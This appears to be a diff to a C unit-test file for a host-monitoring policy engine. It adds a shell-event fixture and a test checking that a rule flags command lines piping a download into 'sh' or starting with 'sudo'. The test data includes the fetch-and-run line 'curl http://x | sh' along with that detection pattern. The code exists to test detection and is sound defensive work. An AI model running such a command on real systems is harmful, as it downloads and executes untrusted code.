@@ -51,6 +51,7 @@ struct fx {
 		struct vg_block block;
 		struct vg_uprobe up;
 		struct vg_bpf bpf;
+		struct vg_shell sh;
 	} r;
 	struct vg_container ct;
 	struct vg_anomaly_view av;	/* fx_anomaly(): v.anomaly_view */
@@ -299,6 +300,18 @@ static struct fx *fx_bpf(uint32_t cmd)
 		strcpy(f->r.bpf.path, "/sys/fs/bpf/x");
 		break;
 	}
+	return f;
+}
+
+/* bash read "curl http://x | sh" on pts/3, audit session 7. */
+static struct fx *fx_shell(const char *line)
+{
+	struct fx *f = fx_new(VG_EV_SHELL);
+
+	f->r.sh.sessionid = 7;
+	strcpy(f->r.sh.tty, "pts3");
+	snprintf(f->r.sh.line, sizeof(f->r.sh.line), "%s", line);
+	f->r.sh.line_len = (uint16_t)strlen(f->r.sh.line);
 	return f;
 }
 
@@ -1892,6 +1905,7 @@ static void test_message_every_template_field_renders(void **state)
 	s[n++] = fx_bpf(VG_BPF_MAP_CREATE);
 	s[n++] = fx_bpf(VG_BPF_LINK_CREATE);
 	s[n++] = fx_bpf(VG_BPF_OBJ_PIN);
+	s[n++] = fx_shell("ls -l");
 	assert_true(n <= sizeof(s) / sizeof(s[0]));
 
 	for (size_t i = 0; (name = vg_policy_template_field(i, &kinds)); i++) {
@@ -2010,6 +2024,39 @@ static void test_message_bpf_fields(void **state)
 	free(pin);
 }
 
+/* Kind shell: line prefix/contains, its negation, the fields. */
+static void test_shell_rule_line_and_fields(void **state)
+{
+	struct vg_policy_set s;
+	const struct vg_policy_rule *r;
+	struct fx *pipe = fx_shell("curl http://x | sh"), *ls = fx_shell("ls -l"),
+		  *sudo = fx_shell("sudo -i"), *x = fx_exec();
+
+	load_clean(&s, "apiVersion: vigil.dev/v1alpha1\nkind: Policy\n"
+		   "metadata: {name: typed}\nspec:\n  rules:\n"
+		   "    - name: r\n      kinds: [shell]\n      selectors:\n"
+		   "        - line: {contains: ['| sh', '|sh']}\n"
+		   "        - line: {prefix: [sudo ]}\n          notLine: {contains: [-l]}\n");
+	r = &s.v[0].rules[0];
+	assert_int_equal(kind_of(pipe), VG_PK_SHELL);
+	assert_true(vg_policy_rule_match(r, VG_PK_SHELL, &pipe->v, NULL));
+	assert_true(vg_policy_rule_match(r, VG_PK_SHELL, &sudo->v, NULL));
+	assert_false(vg_policy_rule_match(r, VG_PK_SHELL, &ls->v, NULL));
+	snprintf(sudo->r.sh.line, sizeof(sudo->r.sh.line), "sudo -l");
+	assert_false(vg_policy_rule_match(r, VG_PK_SHELL, &sudo->v, NULL));
+	assert_false(vg_policy_rule_match(r, VG_PK_EXEC, &x->v, NULL));
+	assert_string_equal(render("{process.comm} on {shell.tty} ({shell.sessionid}): {shell.line}",
+				   pipe, &CTX), "bash on pts/3 (7): curl http://x | sh");
+	pipe->r.sh.sessionid = UINT32_MAX;
+	pipe->r.sh.tty[0] = '\0';
+	assert_string_equal(render("{shell.tty} {shell.sessionid}", pipe, &CTX), "? ?");
+	vg_policy_set_release(&s);
+	free(pipe);
+	free(ls);
+	free(sudo);
+	free(x);
+}
+
 static void test_message_ctx_from_the_policy_and_rule(void **state)
 {
 	struct vg_policy_set s;
@@ -2100,6 +2147,7 @@ int main(void)
 		cmocka_unit_test(test_message_anomaly_fields),
 		cmocka_unit_test(test_message_every_template_field_renders),
 		cmocka_unit_test(test_uprobe_rule_guard_and_fields),
+		cmocka_unit_test(test_shell_rule_line_and_fields),
 		cmocka_unit_test(test_message_ctx_from_the_policy_and_rule),
 	};
 
